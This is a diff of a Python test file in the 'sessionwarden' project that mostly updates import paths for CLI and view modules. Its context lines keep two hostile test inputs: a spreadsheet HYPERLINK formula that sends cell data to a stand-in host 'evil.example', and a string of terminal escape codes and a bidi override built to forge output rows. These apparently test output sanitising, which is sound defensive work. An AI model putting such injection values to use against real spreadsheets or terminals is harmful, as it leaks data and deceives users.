@@ -14,12 +14,12 @@ from pathlib import Path
 
 import pytest
 from sessionwarden.actors.messages import new_event
-from sessionwarden.cmd.cli_usage import csv_cell
-from sessionwarden.cmd.main import main
-from sessionwarden.cmd.wiring import default_projections
+from sessionwarden.cmd.cli.listing import csv_cell
+from sessionwarden.cmd.cli.main import main
 from sessionwarden.domain.session import session_stream
 from sessionwarden.events import CallAdmitted, CallCompleted, SessionStarted
 from sessionwarden.store import EventLog
+from sessionwarden.views.wiring import default_projections
 
 FORMULA_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
 ESCAPE_MODEL = "gpt\x1b[2J\x1b[31mevil\u202e\nforged row"
